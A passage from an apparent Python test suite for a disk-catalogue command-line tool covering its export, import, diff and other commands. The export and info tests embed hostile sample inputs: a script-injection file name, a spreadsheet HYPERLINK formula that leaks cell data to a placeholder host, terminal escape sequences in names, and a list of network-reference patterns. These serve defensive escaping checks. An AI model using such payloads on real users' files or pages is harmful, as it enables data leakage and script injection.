            self.assertNotRegex(out, rb"[\x00-\x08\x0b-\x1f\x7f]")
        names = [b"%0100d" % i for i in range(1000)]
        big = self.snapshot("big.zelv", [(9, 0, "big")] + [(8, 1, n.decode()) for n in names])
        self.assertEqual(self.ok("list", big),
                         b"9 big\n" + b"".join(b"  8 %s\n" % n for n in names))
        self.assertEqual(run("search", big, "0"), (0, b"".join(b"big/%s\n" % n for n in names),
                                                   "1000 matches found.\n"))
        for args, pipe in [(a, p) for a in (["list", big], ["search", big, "0"])
                           for p in (signal.SIG_DFL, signal.SIG_IGN)]:
            with self.subTest(args=args, sigpipe=pipe), subprocess.Popen(
                    [CLI, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                    preexec_fn=lambda: signal.signal(signal.SIGPIPE, pipe)) as p:
                p.stdout.readline()
                p.stdout.close()
                self.assertEqual((p.stderr.read(), p.wait(timeout=120)),
                                 (b"", -signal.SIGPIPE if pipe == signal.SIG_DFL else 2))
        disk = self.tree("disk", ["a"])
        for args in (["list", big], ["search", big, "0"], ["info", big], ["--version"],
                     ["list", "--help"], ["scan", disk, "-o", self.path("x.zelv")],
                     ["scan", disk, "-o", "-"], ["diff", "/dev/null", big]):
            with self.subTest(args=args), open("/dev/full", "wb") as full:
                self.assertEqual(run(*args, stdout=full)[::2], (
                    2, "zelvane-cli: cannot write the output: No space left on device\n"))

        man = pathlib.Path(MAN).read_text(encoding="utf-8").replace("\\-", "-")
        version = re.search(r'^\.TH \S+ 1 "[^"]*" "Zelvane ([^"]*)"', man, re.M)[1]
        commands = re.findall(r"^  (\w+) ", self.ok("--help").decode(), re.M)
        self.assertEqual(commands, ["completion", "diff", "export", "import", "info", "list",
                                    "merge", "scan", "search", "unique"])
        for args in [["--version"], ["-V"]] + [[c, "-V"] for c in commands]:
            self.assertEqual(self.ok(*args).decode(), f"zelvane-cli {version}\n", args)
        for command in commands:
            self.assertRegex(man, rf"\n\.SS {command}\n")

    def test_a_path_and_a_depth_choose_what_is_listed(self):
        s = self.scan(self.tree("disk", ["Docs/2024/a.txt", "Docs/b.txt", "c.txt"]), "/media/cd/")
        for args, out in [
            (["/media/cd/Docs"], "6  Docs\n  6  2024\n    5 a.txt\n  5 b.txt\n"),
            (["/media/cd/Docs/", "--depth", "1"], "6  Docs\n  6  2024\n  5 b.txt\n"),
            (["-d0"], "9 /media/cd/\n"),
            (["/media/cd", "-d", "1", "--path-style=slash"],
             "9 /media/cd/\n6 /media/cd/Docs\n5 /media/cd/c.txt\n"),
        ]:
            self.assertEqual(self.ok("list", s, *args).decode(), out, args)
        self.assertEqual(run("list", s, "/media/cd/nope"),
                         (1, b"", f"zelvane-cli: {s}: no node at '/media/cd/nope'\n"))
        self.ok("list", s, "/media/cd/Docs", "-o", self.path("out.txt"))  # -o writes a file
        self.assertEqual(self.read("out.txt"), self.ok("list", s, "/media/cd/Docs"))
        s = self.snapshot("t.zelv", [(9, 0, "a"), (6, 1, " b"), (9, 0, "a/b"), (9, 0, "a/b/")])
        self.assertEqual(self.ok("list", s, "a/b/"), b"6  b\n9 a/b\n9 a/b/\n")  # titles with /

    def test_running_out_of_memory_is_told_in_one_line(self):
        def limit(what, mb): return lambda: resource.setrlimit(what, (mb << 20, mb << 20))
        little_memory = limit(resource.RLIMIT_DATA, 120)  # what it allocates, not its libraries
        if run("--version", preexec_fn=little_memory)[0] != 0:
            self.skipTest("the program does not start in 120 MB (a sanitizer build?)")
        # list and search hold no tree: they read in little memory up to the limit of a stream;
        # a page holds two bytes a node
        for args, reason in ((["export", "/dev/zero", "-fhtml", "-o/dev/null"], "Cannot allocate memory"),
                             (["list", "/dev/zero", "x"], "File too large"),
                             (["search", "/dev/zero", "x"], "File too large")):
            code, _, err = run(*args, preexec_fn=little_memory)
            self.assertEqual(code, 2, args)
            self.assertRegex(err, rf"^zelvane-cli: (/dev/zero: {reason}|out of memory)"
                                  r"\n(0 matches found.\n)?$")
        # rows are written as they are found, not gathered: 200 MB of them
        many = self.write("many.zelv", record(9, 0, "r" * 200) + record(5, 1, "x") * 1000000)
        self.assertEqual(run("search", many, "x", "-o", "/dev/null", preexec_fn=little_memory),
                         (0, b"", "1000000 matches found.\n"))
        # with too little address space for the reading threads, it reads without them
        code, _, err = run("search", many, "x", "-o", "/dev/null",
                           preexec_fn=limit(resource.RLIMIT_AS, 60))
        self.assertIn((code, err), [(0, "1000000 matches found.\n"), (127, err),
                                    (2, f"zelvane-cli: {many}: Cannot allocate memory\n"
                                        "0 matches found.\n")])


class Info(CliTest):  # and the file arguments info and list share

    def test_counts_defects_and_notes(self):
        records = [(9, 0, "Disk"), (6, 1, " Docs"), (5, 2, "\u03a9.txt"), (5, 2, "b"), (8, 1, "a")]
        whole = b"".join(record(*r) for r in records)
        self.assertEqual(self.ok("info", "-", stdin=whole).decode(), "Roots:\t1\nFolders:\t1\n"
                         "Files:\t3\nRecords:\t5\nDeepest level:\t2\nUTF-16 names:\t1\n"
                         "Well formed\n")
        for data, status, findings in [
            (whole[:-1], 1, "Defect: the last name is cut off by the end of the file\n"),
            (b"\x09\0A\0\x06\5 B\0\x05\2C\0\x06\2 D\0", 1,
             "Defect: 1 record(s) have no parent at their depth and were placed at the top level\n"
             "Defect: 1 record(s) are more than one level below the record before\n"),
            (b"\x05\7x\0\x05\x08y\0\x09", 1,
             "Defect: the first record is deeper than 0\n"
             "Defect: the file ends after a kind byte\n"),
            (b"\x09\0r\0\xc8\1x\0\x05\1" + b"y" * 1024 + b"\0", 0,  # noted, but well formed
             "Note: 1 name(s) are longer than 1023 characters\n"
             "Note: 1 record(s) have a kind above 11\n"),
        ]:
            with self.subTest(findings=findings):
                out = self.ok("info", "-", stdin=data, status=status).decode()
                self.assertEqual(out.split("\n", 6)[6],
                                 findings + ("Not well formed\n" if status else "Well formed\n"))
        s, evil = self.snapshot("s.zelv", D), self.path("evil\x1b]0;x\x07.zelv")
        for command in ["info", "list"]:
            self.fails(command, [
                ([evil], self.path("evil\\x1B]0;x\\x07.zelv") + ": No such file or directory"),
                ([self.work], self.work + ": Is a directory"),
                ([s, s, s], "one snapshot file, please"), ([], "a snapshot file is needed"),
                ([s, "--bogus\x1b[2J"], "unknown option '--bogus\\x1B[2J'")])


def catalogue(page):
    """The catalogue embedded in a page, and its nodes as (level, kind, name) in order."""
    found = re.search(rb'<script id="catalogue" type="application/json">(.*?)</script>', page, re.S)
    data = json.loads(found[1].decode("utf-8"))
    names = data["names"].split("\0") if data["depth"] else []
    return data, [(ord(d) - 48, ord(k) - 48, n)
                  for d, k, n in zip(data["depth"], data["kind"], names, strict=True)]


class Export(CliTest):  # read back with Python's own parsers

    def setUp(self):
        super().setUp()
        names = ["D\u00f8/\u65e5\u672c.txt".encode(), b'x,y"z.mp3', b"tab\there", b"new\nline.exe"]
        self.s = self.scan(self.tree("disk", names + [b"\xff\xfebad.doc"]), "Disk")

    def export(self, form, *a): return self.ok("export", self.s, "--format", form, *a, "-o", "-")

    def test_formats_output_files_failures_and_hostile_names(self):
        out = self.export("csv")
        for field in [b'\r\n"Disk/new\nline.exe","new\nline.exe",1,', b',"x,y""z.mp3",7,',
                      b"\r\nDisk/tab\there,tab\there,8,", b",\xff\xfebad.doc,5,document,1\r\n"]:
            self.assertIn(field, out)  # quoted only when needed, the bytes as they were
        rows = csv.reader(io.StringIO(out.decode("utf-8", "surrogateescape"), newline=""))
        self.assertEqual(";".join("|".join(row) for row in rows),  # in the tree's order
                         "path|name|kind|kind_name|depth;Disk|Disk|9|drive-root|0;"
                         "Disk/D\u00f8|D\u00f8|6|folder|1;Disk/D\u00f8/\u65e5\u672c.txt|"
                         "\u65e5\u672c.txt|5|document|2;Disk/new\nline.exe|new\nline.exe|1|program|"
                         '1;Disk/tab\there|tab\there|8|other-file|1;Disk/x,y"z.mp3|x,y"z.mp3|7|'
                         "media-file|1;Disk/\udcff\udcfebad.doc|\udcff\udcfebad.doc|5|document|1")
        out, page = self.export("json"), self.export("html")
        self.assertEqual(out, self.ok("list", self.s, "--format", "json"))
        data, nodes = catalogue(page)
        self.assertEqual((data["title"], nodes), ("s.zelv", [
            (len(r["path"]), r["kind"], r["name"]) for r in map(json.loads, out.splitlines())]))
        self.assertIn(b"<title>s.zelv</title>", page)
        # The page needs no other file and carries the twelve icons.
        icon, page = r'url\("data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)"\)', page.decode()
        icons = re.findall(r"\.k(\d+) \{ background-image: " + icon + r"; \}", page)
        folder = os.path.join(SOURCE, "res", "icons")
        files = sorted(f for f in os.listdir(folder) if re.match(r"kind\d\d_", f))
        self.assertEqual([(int(k), base64.b64decode(svg)) for k, svg in icons], [
            (int(f[4:6]), pathlib.Path(folder, f).read_bytes()) for f in files])
        self.assertEqual(len(icons), 12)
        for reference in ["://", " src=", "href=", "@import", "url(", "fetch(", "XMLHttpRequest",
                          "<link", "<iframe", "<img"]:
            self.assertNotIn(reference, re.sub(icon, "", page))
        mask = os.umask(0)
        os.umask(mask)
        for name, start in [("out.csv", b"path,name"), ("out.json", b'{"file":'),
                            ("out.jsonl", b'{"file":'), ("out.html", b"<!DOCTYPE html>"),
                            ("out.htm", b"<!DOCTYPE html>"), ("x.html", b"path,name")]:
            self.write(name, b"old contents that are longer than nothing" * 100)
            given = ["--format", "csv"] if name == "x.html" else []  # --format wins
            self.assertEqual(self.ok("export", self.s, *given, "-o", self.path(name)), b"")
            mode = os.stat(self.path(name)).st_mode & 0o777
            self.assertEqual((self.read(name)[:len(start)], mode), (start, 0o666 & ~mask), name)
        self.assertEqual(len(os.listdir(self.work)), 8, "no temporary file is left")
        missing, out, s = self.path("missing.zelv"), self.path("never.csv"), self.s
        self.fails("export", [([missing, "-o", out], missing + ": No such file"),
            ([s, "-o", self.path("no/such/dir/x.csv")], "no/such/dir/x.csv: No such file"),
            ([s, "-o", "/dev/full", "--format", "html"], "No space left on device"),
            ([s, "--format", "xml", "-o", "-"], "csv, json or html, not 'xml'"),
            ([s, "-o", self.path("x.txt")], "say which format"), ([s, "-o", "-"], "say which"),
            ([s], "say which format"), ([s, "--format", "csv", "-o"], "-o needs"),
            (["--format", "csv", "-o", "-"], "a snapshot file is needed"),
            ([s, "--frmat", "csv", "-o", "-"], "unknown option '--frmat'"),
        ], leaves=sorted(os.listdir(self.work)))
        records = [(9, 0, "</script><script>alert(1)</script><!--"), (6, 1, " </title>&amp;"),
                   (5, 2, "\u2028\ud800x\U0001F600"), (8, 1, "")] + [(k, 0, "r") for k in range(12)]
        records += [(6, d, " f") for d in range(1, 256)] + [(200, 255, "x")]
        self.snapshot("s.zelv", records)
        page = self.export("html", "--title", "<b>T&C</b>")
        self.assertEqual(page.count(b"</script>"), 2)  # the data's and the code's own
        self.assertIn(b"<title>&lt;b&gt;T&amp;C&lt;/b&gt;</title>", page)
        data, nodes = catalogue(page)
        self.assertEqual((data["title"], nodes), ("<b>T&C</b>", [(d, k, n) for k, d, n in records]))
        rows = [json.loads(line) for line in self.export("json").splitlines()]
        self.assertEqual(data["kinds"] + [rows[-1]["kindName"]],
                         [row["kindName"] for row in rows[4:16]] + ["unknown"])
        self.snapshot("s.zelv", [])
        out = [self.export(form) for form in ("csv", "json", "html")]
        self.assertEqual(out[:2] + [catalogue(out[2])[1]],
                         [b"path,name,kind,kind_name,depth\r\n", b"", []])
        self.assertEqual(self.ok("export", self.s, "--format=csv"), out[0])  # standard output


    def test_several_files_in_one_export_and_the_pages_glob_as_search_has_it(self):
        two = self.snapshot("two.zelv", [(9, 0, "Two"), (5, 1, "t.txt")])
        out = self.ok("export", self.s, two, "--format", "csv")
        self.assertEqual((out.count(b"path,"), out[-32:]), (1, b"\r\nTwo/t.txt,t.txt,5,document,1\r\n"))
        rows = [json.loads(r)["file"] for r in self.ok("export", self.s, two, "-f", "json").splitlines()]
        self.assertEqual((rows[0], rows[-1]), (self.s, two))
        data, nodes = catalogue(self.ok("export", self.s, two, "-f", "html"))
        self.assertEqual((data["title"], nodes[0], nodes[-2:]),
                         ("s.zelv, two.zelv", (0, 9, "Disk"), [(0, 9, "Two"), (1, 5, "t.txt")]))
        if shutil.which("node") is None:
            self.skipTest("node is not installed")
        # The page's glob against every glob case of the name matchers' own test.
        page = pathlib.Path(SOURCE, "src/cli/catalogue_page.html").read_text()
        cpp = pathlib.Path(SOURCE, "tests/search/search_test.cpp").read_text()
        text, esc = r'u"((?:[^"\\]|\\.)*)"', r"\\(x[0-9A-Fa-f]+|u[0-9A-Fa-f]{4}|U[0-9A-Fa-f]{8}|.)"
        def u(s): return re.sub(esc, lambda m: chr(int(m[1][1:], 16)) if len(m[1]) > 1 else m[1], s)
        cases = [(False, k == "Exact", u(p), u(t), r == "true") for k, p, t, r in re.findall(
            rf"\{{Glob, (\w+), \w+, {text}, {text}, (true|false)\}}", cpp)]
        cases += [(f == "true", False, u(p), u(t), r == "true") for f, p, t, r in re.findall(
            rf"\{{(true|false), {text}, {text}, (true|false)\}}", cpp)]
        script = page.split("    // glob functions\n")[1] + (
            "console.log(JSON.stringify(JSON.parse(require('fs').readFileSync(0, 'utf8')).map("
            "function (c) { return globMatcher(c[2], c[0], c[1])(c[3]); })));")
        got = subprocess.run(["node", "-e", script], input=json.dumps(cases).encode(),
                             capture_output=True, timeout=60).stdout
        self.assertEqual((len(cases), json.loads(got)), (38, [c[4] for c in cases]))

    def test_hostile_targets_full_disks_and_spreadsheet_formulas(self):
        csv_out, s = self.export("csv"), self.s
        for out, inode in [("t.csv", "hard"), ("link", "other"), ("/dev/stdout", "same"),
                           ("/dev/fd/9", "same"), ("/proc/self/fd/9", "same"), ("L" * 250, "other")]:
            with self.subTest(out=out):
                t = self.write(out if out[0] == "L" else "t.csv", b"old")
                os.chmod(t, 0o600)
                before, target = os.stat(t).st_ino, out if out[0] == "/" else self.path(out)
                os.link(t, self.path("hard")) if inode == "hard" else None
                os.symlink(t, self.path("link")) if out == "link" else None
                with open(t, "r+b") as opened:
                    os.dup2(opened.fileno(), 9, inheritable=False)
                    self.ok("export", s, "-f", "csv", "-o", target, pass_fds=[9],
                            stdout=opened if out == "/dev/stdout" else subprocess.PIPE)
                after = os.stat(t)
                self.assertEqual((self.read(t), after.st_mode & 0o777, after.st_ino == before),
                                 (csv_out, 0o600, inode != "other"))
                self.assertEqual(self.read("hard") if inode == "hard" else csv_out, csv_out)
                for name in ["hard", "link", t]:
                    pathlib.Path(self.path(name)).unlink(missing_ok=True)
        os.mkdir(self.path("d"))  # a relative name in a folder of one letter
        self.ok("export", s, "-f", "csv", "-o", "d/r.csv", cwd=self.work)
        self.assertEqual(self.read("d/r.csv"), csv_out)
        os.mkfifo(self.path("fifo"))
        with subprocess.Popen(["cat", self.path("fifo")], stdout=subprocess.PIPE) as reader:
            self.ok("export", s, "-f", "csv", "-o", self.path("fifo"))
            self.assertEqual(reader.communicate(timeout=60)[0], csv_out)
        os.symlink(s, self.path("s-link"))
        same = s + ": the output file is one of the input files"
        self.fails("export", [([s, "-f", "csv", "-o", s], same)])
        self.fails("list", [([self.path("s-link"), "-o", s], same)])
        self.assertEqual(self.roots(s), ["9 Disk"])
        names = ['=HYPERLINK("http://example.invalid/?leak="&B2,"Open")', "+1", "-2", "@A", "\tx",
                 "\rx", "a=b"]
        f = self.snapshot("f.zelv", [(9, 0, "=R")] + [(5, 1, n) for n in names])
        for raw, mark in [([], "'"), (["--csv-raw"], "")]:
            out = self.ok("export", f, "-f", "csv", *raw).decode()
            rows = list(csv.reader(io.StringIO(out, newline="")))[1:]
            self.assertEqual([r[:2] for r in rows], [[mark + "=R"] * 2] + [
                [mark + "=R/" + n, (mark if n[0] in "=+-@\t\r" else "") + n] for n in names])

    @unittest.skipUnless(os.geteuid() == 0, "mounting a small full disk needs root")
    def test_a_full_disk_is_told_with_the_file_and_leaves_it(self):
        disk, big = self.path("full"), self.snapshot("big.zelv", D + [(5, 1, "f" * 99)] * 2000)
        os.mkdir(disk)
        if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", disk]).returncode:
            self.skipTest("a tmpfs cannot be mounted here")
        self.addCleanup(subprocess.run, ["umount", disk])
        out = self.write("full/out.csv", b"old")
        self.fails("export", [([big, "-f", "csv", "-o", out], out + ": No space left on device")])
        self.assertEqual((os.listdir(disk), self.read("full/out.csv")), (["out.csv"], b"old"))


class Import(CliTest):  # the same tree as scan gives, from every listing

    def test_listings_of_find_tar_and_ncdu_as_a_scan_and_their_faults(self):
        disk = self.tree("disk", ["a/b/x.txt", "a/y.mp3", "e/", b"\xff\xfe.doc", 'q"b\\s.txt'])
        self.write("disk/a/y.mp3", b"12345")
        with_tar = subprocess.run(["tar", "--quoting-style=literal", "-cf", "-", "disk"], cwd=self.work,
                                  capture_output=True).stdout
        scan = [self.ok("scan", disk, "-t", "T", "-o", self.path("s.zelv"))]
        listings = [(["-"], self.ok("list", self.path("s.zelv")), subprocess.run(
            ["tar", "--quoting-style=literal", "-tf", "-"], input=with_tar, capture_output=True).stdout)]
        self.write("disk/new\nline.exe", b"")
        scan.append(self.ok("scan", disk, "-t", "T", "-o", self.path("s.zelv")))
        find = subprocess.run(["find", "disk", "-type", "d", "-printf", "%p/\\0", "-o", "-print0"],
                              cwd=self.work, capture_output=True).stdout  # empty folders too
        listings.append((["-0", "-"], self.ok("list", self.path("s.zelv")), find))
        if shutil.which("ncdu"):  # its sizes too
            subprocess.run(["ncdu", "-o", self.path("n.json"), disk], capture_output=True)
            listings.append((["--from", "ncdu", "-"], listings[1][1], self.read("n.json")))
            self.assertEqual(self.ok("import", "--from=ncdu", self.path("n.json"), "-t", "T",
                                     "-o", self.path("i.zelv")), scan[1])
            self.assertEqual(self.read("i.zelv"), self.read("s.zelv"))
        for k, (args, tree, listing) in enumerate(listings):
            with self.subTest(args=args):
                code, out, err = run("import", *args, "-t", "T", "-o", "-", stdin=listing)
                self.assertEqual((code, self.ok("list", "-", stdin=out)), (0, tree))
                self.assertEqual(err.split("\n")[0], scan[min(k, 1)].decode().split("\n")[0])
        out = run("import", "-0", "-", "-o", "-", stdin=find)[1]  # titled by the listing's root
        self.assertEqual(self.ok("list", "-", stdin=out).splitlines()[0], b"9 disk")
        a = self.write("a.txt", b"./a//b/\n./a/c\n\n./a/c\n")  # one root, named by the listing
        self.ok("import", a, "--append", self.path("s.zelv"), "-o", self.path("two.zelv"))
        self.assertEqual(self.roots(self.path("two.zelv")), ["9 " + a, "9 T"])
        self.assertIn(b"\n  6  a\n    6  b\n    8 c\n9 T\n", self.ok("list", self.path("two.zelv")))
        bad = {"dots": b"a/b\n../x\n", "nul": b"a\0b\n", "deep": b"f/" * 256 + b"x\n",
               "cut.json": b'[1,2,{},[{"name":"r"},{"name"', "v2.json": b'[2,0,{},[{"name":"r"}]]',
               "empty.json": b'[1,0,{},[{"name":"r"},{"name":""}]]', "esc.json": b'[1,0,{},[{"name":"\\q"}]]',
               "tab.json": b'[1,0,{},[{"name":"a\tb"}]]',
               "deep.json": b'[1,0,{},' + b'[{"name":"f"},' * 257 + b'{"name":"x"}' + b"]" * 258 + b"]",
               "skip.json": b'[1,0,{"x":' + b"[" * 70 + b"]" * 70 + b'},[{"name":"r"}]]'}
        for name, data in bad.items():
            self.write(name, data)
        out, p = self.path("out.zelv"), self.path
        self.fails("import", [([p("dots"), "-o", out], "dots: line 2: '..' in a path"),
            ([p("nul"), "-o", out], "nul: line 1: a NUL byte in the line (NUL-terminated listings take -0)"),
            ([p("deep"), "-o", out], "deep: line 1: deeper than 255 levels"),
            (["--from", "ncdu", p("cut.json"), "-o", out], "cut.json: byte 30: the listing ends too early"),
            (["--from", "ncdu", p("v2.json"), "-o", out], "v2.json: byte 3: not an ncdu export of major version 1"),
            (["--from", "ncdu", p("empty.json"), "-o", out], "empty.json: byte 34: an entry with an empty name"),
            (["--from", "ncdu", p("esc.json"), "-o", out], "esc.json: byte 20: not a valid escape"),
            (["--from", "ncdu", p("tab.json"), "-o", out], "tab.json: byte 20: a control character in a string"),
            (["--from", "ncdu", p("deep.json"), "-o", out], "deep.json: byte 3593: deeper than 255 levels"),
            (["--from", "ncdu", p("skip.json"), "-o", out], "skip.json: byte 75: nested too deeply"),
            (["--from", "ncdu", "-0", a, "-o", out], "-0 is for --from paths"),
            ([a], "an output file is needed"), ([p("none"), "-o", out], "none: No such file"),
            ([self.work, "-o", out], self.work + ": Is a directory"),
        ], leaves=sorted(os.listdir(self.work)))
        r = self.write("r.json", b'[1,0,{"x":[-1.5e3,{"y":null}],"t":true,"f":false},[{"name":"","asiz'
                       b'e":1},{"name":"\\u00e9\\ud83d\\ude00\\ud800\\udc00\\udcff\\ud800x\\t\\/","asize":40},{"asize":1E+2,'
                       b'"name":"n"},{"name":"m","asize":-3},[{"name":"d","o":{}},{"asize":2.5,"name":"f","l":[]}]]]')
        self.assertIn(b"Total size is 40 byte", self.ok("import", "--from", "ncdu", r, "-o", out))
        rows = [json.loads(row) for row in self.ok("list", out, "--format", "json").splitlines()]
        self.assertEqual([row["fullPath"] for row in rows], [r, r + "/d", r + "/d/f",
                                                             r + "/\u00e9\U0001F600\U00010000\udcff\ufffdx\t/", r + "/m", r + "/n"])
        many = self.write("many", b"".join(b"a%d/x\n" % i for i in range(600)) + b"a0/y\n")
        self.assertIn(b"600 folder(s) & 601 file(s)", self.ok("import", many, "-o", out))  # a grown index
        self.assertIn(b" & 1 file(s)", self.ok("import", self.write("one", b"a"), "-o", out))


class Merge(CliTest):

    def test_roots_sorted_or_in_order_and_nothing_written_on_failure(self):
        a = self.snapshot("a.zelv", [(9, 0, "b"), (5, 1, "x"), (4, 0, "A")])
        b = self.snapshot("b.zelv", [(9, 0, "C"), (6, 1, " F")])
        for options, roots in [([], ["4 A", "9 b", "9 C"]), (["--keep-order"], ["9 b", "4 A", "9 C"])]:
            self.assertEqual(self.ok("merge", a, b, *options, "-o", self.path("m.zelv")), b"")
            self.assertEqual(self.roots(self.path("m.zelv")), roots)
        self.ok("merge", "-", b, "-o", a, stdin=self.read("m.zelv"))  # OUT may be an input
        self.assertEqual(self.roots(a), ["4 A", "9 b", "9 C", "9 C"])
        self.fails("merge", [([a, self.path("no"), "-o", self.path("x")], "no: No such file"),
                             ([a], "an output file is needed"), (["-o", "x"], "files to merge")],
                   leaves=["a.zelv", "b.zelv", "m.zelv"])


class Unique(CliTest):

    def test_what_one_root_alone_holds_by_path_or_name(self):
        a = self.snapshot("a.zelv", [(9, 0, "D"), (5, 1, "x"), (5, 1, "y"), (5, 1, "y"), (6, 1, " F"),
                                     (5, 2, "z"), (6, 1, " G"), (9, 0, "E"), (5, 1, "w")])
        b = self.snapshot("b.zelv", [(9, 0, "B"), (5, 1, "x"), (6, 1, " F"), (5, 2, "w"), (5, 2, "x")])
        for options, out in [([], "a:D/y\na:D/y\na:D/F/z\na:E/w\nb:B/F/w\nb:B/F/x\n"),
                             (["--folders"], "a:D/y\na:D/y\na:D/F/z\na:D/G\na:E/w\nb:B/F/w\nb:B/F/x\n"),
                             (["--by", "name"], "a:D/y\na:D/y\na:D/F/z\n"),
                             (["--by=name", "--min-copies", "1"], ""),
                             (["--min-copies", "3", "--by", "name"], "a:D/x\na:D/y\na:D/y\na:D/F/z\n"
                              "a:E/w\nb:B/x\nb:B/F/w\nb:B/F/x\n")]:
            with self.subTest(options=options):
                got = self.ok("unique", "a.zelv", "b.zelv", *options, status=0 if out else 1, cwd=self.work)
                self.assertEqual(got.decode().replace(".zelv", ""), out)
        c = self.snapshot("c.zelv", [(9, 0, "C"), (5, 1, "x")])  # one row, exit 0
        self.assertEqual(self.ok("unique", c, "--by", "name", "--format", "tsv", "--", b).decode(),
                         f"{b}\tB/F\tw\t5\tdocument\n")
        self.fails("unique", [([a, self.path("no")], "no: No such file"), ([], "files to compare"),
                             ([a, "--by", "size"], "--by is path or name, not 'size'")])


class Diff(CliTest):

    def diff(self, old, new, *options, status=1):
        files = self.snapshot("old.zelv", old), self.snapshot("new.zelv", new)
        return self.ok("diff", *files, *options, status=status).decode("utf-8", "surrogateescape")

    def test_merged_tree_formats_standard_input_and_failures(self):
        for old, new, options, status, out in [
            (D + [(8, 1, "B"), (8, 1, "d")],  # folders first, letter case ignored
             D + [(6, 1, " E"), (8, 2, "e"), (8, 1, "a"), (8, 1, "c"), (8, 1, "d")],
             [], 1, "+ D/E\n+ D/E/e\n+ D/a\n- D/B\n+ D/c\n"),
            (D + [(6, 1, " a")], D + [(5, 1, "a")], ["--path-style", "native"], 1,
             "-  D\\ a\n+  D\\a\n"),
            (D + [(5, 1, "x"), (5, 1, "y")], D + [(7, 1, "y"), (8, 1, "x")], [], 0, ""),  # no kinds
            ([], [], [], 0, ""),
            ([], D + [(5, 1, "a")], ["--path-style", "slash"], 1, "+ D\n+ D/a\n"),
        ]:
            with self.subTest(old=old, new=new):
                self.assertEqual(self.diff(old, new, *options, status=status), out)
        old, new = D + [(5, 1, "z\udcff\udcfe\t\\\n\u65e5\u672c")], D + [(6, 1, " \u03a9")]
        self.assertEqual(self.diff(old, new, "--path-style", "slash"),
                         "+ D/\u03a9\n- D/z\\xFF\\xFE\\x09\\\\x0A\u65e5\u672c\n")
        self.assertEqual(self.diff(old, new, "--format", "tsv", "--path-style=native"),
                         f"+\t{self.path('new.zelv')}\t D\t \u03a9\t6\tfolder\n"
                         f"-\t{self.path('old.zelv')}\t D\tz\\xFF\\xFE\\t\\\\\\n\u65e5\u672c\t5"
                         "\tdocument\n")
        rows = [json.loads(line) for line in self.diff(old, new, "--format", "json").splitlines()]
        listed = [json.loads(self.ok("list", self.path(f), "--format", "json").splitlines()[1])
                  for f in ["new.zelv", "old.zelv"]]
        self.assertEqual(rows, [{"change": "+", **listed[0]}, {"change": "-", **listed[1]}])
        zero = self.diff(old, new, "-0", "--path-style", "slash").encode("utf-8", "surrogateescape")
        self.assertEqual(zero, b"+ D/\xce\xa9\0- D/z\xff\xfe\t\\\n\xe6\x97\xa5\xe6\x9c\xac\0")
        old, new, missing = self.snapshot("old.zelv", D), self.snapshot("new.zelv", D), "/m"
        self.fails("diff", [([old, missing], missing + ": No such file"),
            ([missing, new], missing + ": No such"), ([old], "an old and a new snapshot file are"),
            ([old, new, new], "two snapshot files, please"),
            ([old, new, "--colour"], "unknown option '--colour'"),
            ([old, new, "--format", "csv"], "--format is text, tsv or json"),
            ([old, new, "-0", "--format", "json"], "-0")])
        for args, code, out in [(["/dev/null", new], 1, b"+ D\n"), (["-", new], 0, b""),
                                ([new, "-"], 0, b""), (["/dev/null", "-"], 1, b"+ D\n")]:
            self.assertEqual(self.ok("diff", *args, status=code, stdin=self.read("new.zelv")), out)


if __name__ == "__main__":
    CLI, MAN, SOURCE = os.path.abspath(sys.argv[1]), sys.argv[2], sys.argv[3]
    unittest.main(argv=sys.argv[:1] + [a for a in sys.argv[4:] if a], verbosity=2)
